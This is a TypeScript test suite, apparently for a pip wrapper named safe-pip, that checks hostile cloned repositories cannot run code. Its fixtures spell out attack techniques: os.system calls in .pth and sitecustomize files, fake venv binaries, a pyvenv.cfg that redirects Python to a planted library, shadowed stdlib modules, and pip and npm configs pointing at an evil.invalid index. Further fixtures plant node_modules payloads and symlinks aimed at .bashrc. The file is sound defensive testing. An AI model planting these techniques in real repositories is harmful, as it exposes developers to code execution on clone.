import assert from "node:assert/strict";
import { lstat, readdir, readFile, readlink, rename, symlink } from "node:fs/promises";
import path from "node:path";
import { type Hostile, hostileTest, hostileTests } from "./hostile.ts";

/** Everything that a person, a prompt or an editor does in a directory without a word of consent. */
const looking = [
  "pip --version",
  "pip list",
  "pip3 freeze",
  "pip show demo-leaf",
  "pip check",
  "python --version",
  "python3 --version",
  "python -m pip list",
  "python3 -c pass",
  "safe-pip explain install demo-leaf",
  "safe-pip policy",
  "safe-pip env",
] as const;

/** What a clone may bring, by the name of its directory. */
const clones: Readonly<Record<string, (hostile: Hostile, directory: string) => Promise<void>>> = {
  "a .venv with start-up files (T1)": async (hostile, directory) => {
    await hostile.run(["/usr/bin/python3", "-m", "venv", "--without-pip", `${directory}/.venv`]);
    const [library = ""] = await readdir(path.join(directory, ".venv/lib"));
    const site = path.relative(hostile.root, path.join(directory, ".venv/lib", library, "site-packages"));
    await hostile.write(`${site}/evil.pth`, `import os; os.system(${JSON.stringify(hostile.sing)})\n`);
    await hostile.write(
      `${site}/distutils-precedence.pth`,
      `import os; os.system(${JSON.stringify(hostile.sing)})\n`,
    );
    await hostile.write(`${site}/sitecustomize.py`, hostile.singInPython);
    await hostile.write(`${site}/evil.start`, "evil:main\n");
    await hostile.write(`${site}/evil.py`, `def main():\n    ${hostile.singInPython}\n`);
    await hostile.write(`${site}/pip/__main__.py`, hostile.singInPython);
    await hostile.write(`${site}/pip/__init__.py`, hostile.singInPython);
  },
  "a .venv whose programs are scripts (T2)": async (hostile, directory) => {
    const below = path.relative(hostile.root, directory);
    for (const name of ["python", "python3", "pip", "pip3", "activate", "node"]) {
      await hostile.write(`${below}/.venv/bin/${name}`, `#!/bin/sh\n${hostile.sing}\n`, 0o755);
    }
    await hostile.write(`${below}/.venv/pyvenv.cfg`, "home = /usr/bin\nversion = 3.11.2\n");
  },
  "a .venv whose pyvenv.cfg leads elsewhere (T3)": async (hostile, directory) => {
    const below = path.relative(hostile.root, directory);
    for (const minor of [9, 10, 11, 12, 13, 14, 15]) {
      const library = `${below}/evil/lib/python3.${minor}`;
      // os.py is the landmark by which Python takes a directory for its library.
      await hostile.write(`${library}/os.py`, "");
      // There is no open() yet when this is imported.
      const text = `import posix; posix.system(${JSON.stringify(hostile.sing)})`;
      await hostile.write(`${library}/encodings/__init__.py`, text);
    }
    await hostile.write(`${below}/.venv/pyvenv.cfg`, `home = ${directory}/evil/bin\n`);
    await hostile.directory(`${below}/.venv/bin`);
    await symlink("/usr/bin/python3", path.join(directory, ".venv/bin/python"));
  },
  "configuration of pip's (T4)": async (hostile, directory) => {
    const below = path.relative(hostile.root, directory);
    const text = "[global]\nindex-url = https://evil.invalid/simple\ntarget = /nonexistent\n";
    for (const name of [".venv/pip.conf", "pip.conf", ".pip/pip.conf", "pip/pip.conf"]) {
      await hostile.write(`${below}/${name}`, text);
    }
  },
  "modules with the names of Python's (T5)": async (hostile, directory) => {
    const below = path.relative(hostile.root, directory);
    for (const name of [
      "venv",
      "ensurepip",
      "re",
      "json",
      "logging",
      "os",
      "site",
      "sitecustomize",
      "usercustomize",
      "fcntl",
      "safe_pip_runner",
    ]) {
      await hostile.write(`${below}/${name}.py`, hostile.singInPython);
    }
  },
  "what Node would read (T28)": async (hostile, directory) => {
    const below = path.relative(hostile.root, directory);
    const write = `require("node:child_process").execSync(${JSON.stringify(hostile.sing)})`;
    for (const name of ["smol-toml", "valibot", "picocolors", "env-paths"]) {
      await hostile.write(`${below}/node_modules/${name}/index.js`, write);
    }
    await hostile.write(`${below}/package.json`, '{"type": "module", "main": "evil.js"}');
    await hostile.write(`${below}/.npmrc`, "registry=https://evil.invalid\n");
  },
};

const entries = Object.entries(clones);

hostileTests(
  async (hostile) => {
    for (const [index, [, fill]] of entries.entries()) {
      const directory = await hostile.directory(`home/clone${index}`);
      await hostile.write(`home/clone${index}/pyproject.toml`, "");
      await fill(hostile, directory);
    }
    await hostile.assertSilent("the set-up");
  },
  entries.flatMap(([name], index) => [
    [
      `${name}: looking runs nothing of it`,
      async (hostile: Hostile) => {
        const cwd = path.join(hostile.home, `clone${index}`);
        for (const line of looking) {
          // Python's own rule: -m looks in the working directory first. pip by its name does not.
          if (name.includes("(T5)") && / -[mc] /.test(line)) continue;
          const ran = await hostile.line(line, { cwd });
          assert.ok(ran.exitCode <= 1, `${line}: ${ran.stderr}`);
        }
        await hostile.line("pip", {
          cwd,
          env: { PIP_AUTO_COMPLETE: "1", COMP_WORDS: "pip ins", COMP_CWORD: "1" },
        });
      },
    ] as const,
    [
      `${name}: an install runs nothing of it, and lands outside`,
      async (hostile: Hostile) => {
        const cwd = path.join(hostile.home, `clone${index}`);
        const before = await readdir(path.join(cwd, ".venv")).catch(() => null);
        const ran = await hostile.line("pip install demo-leaf", { cwd });
        assert.equal(ran.exitCode, 0, ran.stderr);
        assert.match(ran.stdout, /Successfully installed demo-leaf-1\.1/);
        if (before !== null) assert.deepEqual(await readdir(path.join(cwd, ".venv")), before);
        assert.equal((await hostile.line("pip list", { cwd })).exitCode, 0);
        assert.equal((await hostile.line("pip uninstall -y demo-leaf", { cwd })).exitCode, 0);
      },
    ] as const,
  ]),
);

/** So that a payload which can't be run is no proof: started on purpose, each sings. */
const started: Readonly<Record<string, readonly [string, ...string[]]>> = {
  T1: [".venv/bin/python", "-c", "pass"],
  T2: [".venv/bin/pip"],
  T3: [".venv/bin/python", "-I", "-c", "pass"],
  T5: ["/usr/bin/python3", "-c", "import json"],
  T28: ["/usr/bin/node", "-e", "require('valibot')"],
};

for (const [mark, words] of Object.entries(started)) {
  hostileTest(`the payload of ${mark} works`, async (hostile) => {
    const cwd = await hostile.directory("home/clone");
    const fill = entries.find(([name]) => name.includes(`(${mark})`))?.[1];
    await fill?.(hostile, cwd);
    await hostile.type(words, { cwd, env: { PATH: "/usr/bin:/bin" } });
    await assert.rejects(hostile.assertSilent(mark), /something hostile was run/);
  });
}

hostileTest("a tool of one's own runs with one's own Python in a hostile directory (T9)", async (hostile) => {
  const cwd = await hostile.directory("home/clone");
  await hostile.write("home/clone/.venv/bin/python3", `#!/bin/sh\n${hostile.sing}\n`, 0o755);
  await hostile.write("home/clone/.venv/pyvenv.cfg", "home = /usr/bin\n");
  const tool = await hostile.write("home/tools/tool", "#!/usr/bin/env python3\nprint('mine')\n", 0o755);
  assert.deepEqual((await hostile.line(tool, { cwd })).stdout, "mine\n");
});

hostileTest(
  "a link in the place of .venv is not followed, and what it leads to stays (T10, T11)",
  async (hostile) => {
    const cwd = await hostile.directory("home/clone");
    await hostile.write("home/clone/setup.py", hostile.singInPython);
    await hostile.write("home/victim/dear", "letters");
    await symlink("../victim", path.join(cwd, ".venv"));
    assert.equal((await hostile.line("pip install demo-leaf", { cwd })).exitCode, 0);
    assert.equal((await hostile.line("pip uninstall -y demo-leaf", { cwd })).exitCode, 0);
    assert.deepEqual(await readdir(path.join(hostile.home, "victim")), ["dear"]);
    assert.equal(await readlink(path.join(cwd, ".venv")), "../victim");
  },
);

hostileTest("what a pull puts in the place of our .venv link is not used (T12)", async (hostile) => {
  const cwd = await hostile.directory("home/clone");
  await hostile.write("home/clone/setup.py", "");
  await hostile.line("pip install demo-leaf", { cwd });
  const link = path.join(cwd, ".venv");
  assert.ok((await lstat(link)).isSymbolicLink());
  await hostile.run(["/bin/rm", link]);
  for (const name of ["python", "python3", "pip"]) {
    await hostile.write(`home/clone/.venv/bin/${name}`, `#!/bin/sh\n${hostile.sing}\n`, 0o755);
  }
  await hostile.write("home/clone/.venv/pyvenv.cfg", "home = /usr/bin\n");
  assert.match((await hostile.line("pip list", { cwd })).stdout, /demo-leaf/);
  const imported = await hostile.type(["python", "-c", "import demo_leaf"], { cwd });
  await hostile.assertSilent("python -c");
  assert.equal(imported.exitCode, 0, imported.stderr);
  assert.equal((await hostile.line("pip install demo-tool", { cwd })).exitCode, 0);
});

hostileTest(
  "a copied, a moved and a re-made project do not inherit an environment (T13)",
  async (hostile) => {
    const cwd = await hostile.directory("home/first");
    await hostile.write("home/first/setup.py", "");
    await hostile.line("pip install demo-leaf", { cwd });
    const second = path.join(hostile.home, "second");
    await hostile.run(["/bin/cp", "-a", cwd, second]);
    const listed = async (directory: string) =>
      (await hostile.line("pip list", { cwd: directory })).stdout.includes("demo-leaf");
    assert.equal(await listed(cwd), true);
    assert.equal(await listed(second), false);
    const third = path.join(hostile.home, "third");
    await rename(cwd, third);
    assert.equal(await listed(third), false);
  },
);

hostileTest("git's own files are not written through what a clone brought (T11)", async (hostile) => {
  const cwd = await hostile.directory("home/clone");
  await hostile.write("home/clone/setup.py", "");
  await hostile.write("home/.bashrc", "# mine\n");
  await hostile.directory("home/clone/.git/info");
  await symlink("../../../.bashrc", path.join(cwd, ".git/info/exclude"));
  await hostile.line("pip install demo-leaf", { cwd });
  assert.equal(await readFile(path.join(hostile.home, ".bashrc"), "utf8"), "# mine\n");
});
